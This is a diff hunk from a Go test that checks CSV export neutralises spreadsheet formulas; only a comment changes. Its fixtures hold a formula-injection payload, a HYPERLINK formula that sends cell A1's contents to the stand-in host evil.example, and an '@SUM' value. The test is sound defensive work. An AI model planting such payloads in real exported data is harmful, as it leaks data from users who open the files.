@@ -18,7 +18,7 @@ import (
 // the Norwegian Excel dialect; csv is refused on other formats and for an
 // unknown dialect.
 func TestCSVExportNeutralisesFormulas(t *testing.T) {
-	store := newStallStore(t).Store // the bundled dataset, nothing stalled
+	store := newStallStore(t).Store // the bundled dataset itself, nothing stalled
 	evil := storetest.Partner("partner-evil")
 	evil.Name = `=HYPERLINK("http://evil.example/?q="&A1,"Klikk")`
 	evil.Description = "@SUM(1+1)"
